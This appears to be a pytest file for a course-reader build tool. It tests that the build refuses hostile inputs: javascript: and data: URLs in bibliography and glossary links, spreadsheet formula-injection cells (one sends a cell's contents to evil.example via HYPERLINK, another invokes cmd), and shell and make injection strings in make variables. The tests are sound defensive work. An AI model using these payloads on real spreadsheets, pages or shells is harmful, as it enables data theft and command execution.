"""The build's promises at their edges: what a hostile tester found the landed build accepted, each
case now refused with one located message (or coming out right), in a temporary copy of the project.

Links that run (a `javascript:` URL), spreadsheet formulas in the CSVs students download, a
configuration or notebook that would have the build execute notebooks, make variables that make or
the shell would expand, dates no calendar has, a figure id twice in a dataset, a seed already in
`seeds/` under another name, a chapter twice in `_toc.yml`, and a notebook's input outside `book/`.
The publishing step's guarantees are tested in test_publish.py, the build's quiet terminal in
test_build_failures.py."""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
import yaml

from readertools.__main__ import main
from readertools.checks.dates import date_problems
from readertools.editions import edition_config
from readertools.paths import PACKAGE
from readertools.schema import FORMULA, check

HENRY = "003_12f7765765b3f97f.txt"
FIXTURE = Path(__file__).parent / "fixtures" / "new-source.txt"
MAKEFILE = PACKAGE.parent / "Makefile"


def errors(capsys, *argv) -> list[str]:
    """The command's error lines (it must fail), with no traceback."""
    assert main(list(argv)) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err, err
    return err.splitlines()


def replace_in(path, old, new, count=1):
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def edit_csv(path, change):
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    change(rows)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def digests(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file() and "_build" not in path.parts}


# Links: only http:// and https:// addresses, in every data file that holds one.

@pytest.mark.parametrize("address", ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
                                     "vbscript:msgbox(1)", "JavaScript:alert(1)", "//evil.example/", "ftp://x.org/"])
def test_a_bibliography_url_that_is_not_a_web_address_is_refused(copy, capsys, address):
    replace_in(copy.bibliography, "  title     = {Manifesto of the {Communist} {Party}},",
               "  title     = {Manifesto of the {Communist} {Party}},\n  url       = {" + address + "},")
    line = copy.bibliography.read_text(encoding="utf-8").splitlines().index("  url       = {" + address + "},") + 1
    assert errors(capsys, "check") == [
        (f"error: book/references.bib, marx1848manifesto.url, line {line}: url {address!r} is not an http:// or "
        "https:// address (the bibliography prints it as a link; no other scheme may be one)")]


@pytest.mark.parametrize(("file", "root"), [("book/glossary.yml", "terms"), ("book/people.yml", "people")])
def test_a_date_check_s_url_that_is_not_a_web_address_is_refused(copy, capsys, file, root):
    path = copy.root / file
    first = next(number for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
                 if line.strip().startswith("url: "))
    replace_in(path, "url: https://", "url: javascript:alert(1)//https://")
    [message] = errors(capsys, "check")
    assert re.fullmatch(rf"error: {file}, {root}\[\d+\] \([^)]+\)\.checked\[\d+\]\.url, line {first}: expected an "
                        r"http:// or https:// address \(no other scheme, no spaces\), got 'javascript:alert\(1\)//"
                        r"https://[^']+'", message), message


# Spreadsheet formulas: no cell of a CSV students download starts as one.

@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+cmd|' /C calc'!A0",
                                  "-cmd|' /C calc'!A0", "@SUM(A1:A9)", "  =1+1"])
def test_a_dataset_cell_a_spreadsheet_would_run_is_refused(copy, capsys, cell):
    edit_csv(copy.data / "soviets_1917.csv", lambda rows: rows[1].update(series=cell))
    start = cell.strip()[0]
    assert errors(capsys, "check") == [
        (f"error: book/data/soviets_1917.csv, row 3 (henry-soviets-10), series: {cell!r} starts with {start!r}: a "
        "spreadsheet opening the file would run it as a formula (no figure's text needs to start so: begin it "
        "otherwise)")]


def test_a_source_line_a_spreadsheet_would_run_is_refused_in_its_text_csv(copy, capsys):
    replace_in(copy.seeds / HENRY, "September 11 marks", "=September 11 marks")
    [message] = errors(capsys, "check")
    assert message == ("error: book/data/texts/henry.csv, row 3, text: '=September 11 marks the 50th anniversary of "
                       "a murderous coup' starts with '=': a spreadsheet opening the file would run it as a "
                       f"formula; it is line 2 of seeds/{HENRY}, which is never edited: take it out of the chapter "
                       "with the catalogue's `strip` or `debris`")


def test_negative_numbers_and_ordinary_text_are_no_formulas(book):
    assert [text for text in ("-12", "-0.5", "-.5", "-", "- about", "A-1", "12") if FORMULA.match(text)] == []
    cells = [value for rows in book.datasets.values() for row in rows for key, value in row.items()
             if not key.startswith("_")]
    assert [value for value in cells if FORMULA.match(value)] == []


# Execution: the build never executes a notebook.

@pytest.mark.parametrize(("file", "old", "new", "place"), [
    ("_config.yml", 'execute_notebooks: "off"', "execute_notebooks: force", "execute.execute_notebooks"),
    ("_config.yml", "  config:\n", "  config:\n    nb_execution_mode: auto\n", "sphinx.config.nb_execution_mode"),
    ("book/chapters/henry.ipynb", '"metadata": {\n  "kernelspec"', ('"metadata": {\n  "mystnb": '
     '{"execution_mode": "force"},\n  "kernelspec"'), "metadata.mystnb.execution_mode"),
    ("book/how-to-use.md", "", ("---\nfile_format: mystnb\nkernelspec: {name: python3}\nmystnb:\n  execution_mode: "
     "force\n---\n"), "front matter, mystnb.execution_mode"),
])
def test_a_setting_that_would_execute_notebooks_in_the_build_is_refused(copy, capsys, file, old, new, place):
    path = copy.root / file
    path.write_text(new + path.read_text(encoding="utf-8") if not old else
                    path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    [message] = errors(capsys, "build")
    assert message.startswith(f"error: {file}, {place}")
    assert "would have the build execute" in message and "the build never executes" in message
    assert not copy.published("student").exists() and not copy.staging.exists()


def test_the_editions_never_execute_whatever_the_configuration_leaves_out(copy):
    text = copy.config.read_text(encoding="utf-8")
    copy.config.write_text(re.sub(r"execute:\n(  .*\n|\s*#.*\n)*", "", text), encoding="utf-8")
    assert "execute:" not in copy.config.read_text(encoding="utf-8")  # Jupyter Book's default: "auto"
    for edition in ("student", "instructor"):
        config = edition_config(copy.config, edition)
        assert config["execute"]["execute_notebooks"] == "off"
        assert config["sphinx"]["config"]["nb_execution_mode"] == "off"


# Make variables: the tools get their text exactly as given; neither make nor the shell reads it.

HOSTILE = "Part VI: The `touch backtick-ran` day $5 $(shell touch make-ran) $$HOME; touch semicolon-ran 'q' \"dq\""


def make(folder: Path, *arguments, bin_folder=None) -> subprocess.CompletedProcess:
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(
        filter(None, [str(PACKAGE.parent), os.environ.get("PYTHONPATH")]))}
    for name in [*("SEED", "ID", "PART", "CHAPTERS", "QUESTIONS", "COURSE", "RENUMBERED", "BASEURL"),
                 *(name for name in os.environ if name.startswith("READER_"))]:
        environment.pop(name, None)
    return subprocess.run(["make", "--no-print-directory", "-f", str(MAKEFILE), *arguments,
                           f"BIN={bin_folder or Path(sys.executable).parent}", "INSTALLED="],
                          cwd=folder, env=environment, capture_output=True, text=True, check=False)


def test_make_new_source_writes_the_part_exactly_as_given_and_runs_nothing(copy, tmp_path):
    part = "Part VI: The `id -un` day $5"
    done = make(copy.root, "new-source", f"SEED={FIXTURE}", "ID=tester", f"PART={part}")
    assert done.returncode == 0, done.stderr
    toc = yaml.safe_load(copy.toc.read_text(encoding="utf-8"))
    assert {"caption": part, "numbered": 1, "chapters": [{"file": "book/chapters/tester"}]} in toc["parts"]
    assert "--part" not in done.stdout and not (copy.root / "make-ran").exists()


@pytest.mark.parametrize(("target", "variable"), [
    ("new-source", "SEED"), ("new-source", "ID"), ("new-source", "PART"), ("notebooks", "RENUMBERED"),
    ("handouts", "CHAPTERS"), ("qti", "CHAPTERS"), ("qti", "QUESTIONS"), ("qti", "CORE"), ("handout", "QUESTIONS"),
    ("course", "COURSE"), ("book", "BASEURL")])
def test_every_make_variable_reaches_the_tools_as_given_through_the_environment(tmp_path, target, variable):
    """Each target run with a stand-in for Python that records what it was given."""
    stand_in = tmp_path / "bin" / "python"
    stand_in.parent.mkdir()
    stand_in.write_text(f"#!/bin/sh\nexec {sys.executable} -c 'import json, os, sys; json.dump("
                        '{"argv": sys.argv[1:], "environ": {k: v for k, v in os.environ.items() '
                        'if k.startswith("READER_")}}, open("called.json", "w"))\' "$@"\n', encoding="utf-8")
    stand_in.chmod(0o755)
    done = make(tmp_path, target, f"{variable}={HOSTILE}", bin_folder=stand_in.parent)
    assert done.returncode == 0, done.stderr
    called = json.loads((tmp_path / "called.json").read_text(encoding="utf-8"))
    assert called["environ"] == {f"READER_{variable}": HOSTILE}
    assert called["argv"] == ["-m", "readertools", "build" if target == "book" else target]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["bin", "called.json"]  # nothing else ran
    assert "touch" not in done.stdout + done.stderr


# Wrong data: dates no calendar has, duplicates, a seed already there, a chapter listed twice.

@pytest.mark.parametrize(("file", "old", "new", "expected"), [
    ("book/chronology.yml", "  date: 1547-01-16", "  date: 1917-02-30", (r"book/chronology.yml, chronology\[0\] \(id: "
     r"ivan-iv-crowned\)\.date, line \d+: '1917-02-30' is not a date of the Gregorian calendar: February 1917 has "
     r"no day 30 \(it has 28\)")),
    ("book/chronology.yml", "  old_style: 1870-04-10", "  old_style: 1870-04-31", (r"book/chronology.yml, "
     r"chronology\[1\] \(id: lenin-birth\)\.old_style, line \d+: '1870-04-31' is not a date of the Julian "
     r"calendar: April 1870 has no day 31 \(it has 30\)")),
    ("book/data/timeline.csv", ",1870-04-10,", ",1870-02-29,", (r"book/data/timeline.csv, row 3, date_start: "
     r"'1870-02-29' is not a date of the Gregorian calendar: February 1870 has no day 29 \(it has 28\)")),
])
def test_a_date_no_calendar_has_is_refused(copy, capsys, file, old, new, expected):
    replace_in(copy.root / file, old, new)
    [message] = errors(capsys, "check")
    assert re.fullmatch("error: " + expected, message), message


def test_calendar_dates_in_either_calendar_and_in_words():
    chronology = {"id": "x", "event": "e", "date": "1900-03-13", "old_style": "1900-02-29", "reference": "r",
                  "quote": "q"}
    assert check([chronology], "chronology", "chronology.yml") == []  # a Julian leap day no Gregorian year has
    assert [str(p) for p in check([{**chronology, "date": "1900-02-29"}], "chronology", "chronology.yml")] == [
        ("chronology.yml, chronology[0] (id: x).date: '1900-02-29' is not a date of the Gregorian calendar: "
        "February 1900 has no day 29 (it has 28)")]
    found = date_problems("people.yml", "X", 0, "Born 30 February 1917.", (), ("30 February 1917",), {})
    assert [str(p) for p in found] == [("people.yml, [0] (X): '30 February 1917' is not a date of the calendar: "
                                       "February 1917 has no day 30 (it has 28)")]


def test_a_figure_id_twice_in_a_dataset_is_refused(copy, capsys):
    edit_csv(copy.data / "soviets_1917.csv", lambda rows: rows[2].update(figure=rows[0]["figure"]))
    assert errors(capsys, "check") == [("error: book/data/soviets_1917.csv, row 4 (henry-soviets-03): duplicate "
                                       "figure id 'henry-soviets-03' (also row 2)")]


def test_a_seed_already_in_seeds_under_any_name_is_refused_naming_it(copy, capsys, tmp_path):
    again = tmp_path / "a-new-name.txt"
    shutil.copyfile(copy.seeds / HENRY, again)
    before = digests(copy.root)
    assert errors(capsys, "new-source", "--seed", str(again), "--id", "again", "--part", "Part VI: Again") == [
        f"error: {again}: this seed is already in seeds/, byte for byte, as {HENRY} (the seed of henry)"]
    assert digests(copy.root) == before


def test_a_chapter_twice_in_the_table_of_contents_stops_make_notebooks_before_it_writes(copy, capsys):
    replace_in(copy.toc, "      - file: book/chapters/henry\n",
               "      - file: book/chapters/henry\n      - file: book/chapters/avakian.ipynb\n")
    line = copy.toc.read_text(encoding="utf-8").splitlines().index("      - file: book/chapters/avakian.ipynb") + 1
    before = digests(copy.root)
    assert errors(capsys, "notebooks") == [
        (f"error: _toc.yml, parts[4].chapters[1].file, line {line}: 'book/chapters/avakian.ipynb' is listed twice "
        "(also at parts[2].chapters[1].file): a document has one place in the book")]
    assert digests(copy.root) == before


# A notebook's inputs: every file of the project it opens, not only those under book/.

def test_a_notebook_reading_a_file_outside_book_is_stale_when_that_file_changes(copy, capsys):
    path = copy.chapter_notebook("dictatorship")
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.append(nbformat.v4.new_code_cell(
        'import os\nprint(open(os.path.join("..", "..", "_config.yml"), encoding="utf-8").readline())',
        id="reads-the-configuration"))
    nbformat.write(notebook, path)
    assert main(["notebooks"]) == 0
    capsys.readouterr()
    assert "_config.yml" in nbformat.read(path, as_version=4).metadata["reader"]["inputs"]
    replace_in(copy.config, "title: ", "title: A new ")
    assert errors(capsys, "check") == [("error: book/chapters/dictatorship.ipynb: stored outputs are stale: "
                                       "_config.yml changed since it was executed (run `make notebooks`)")]
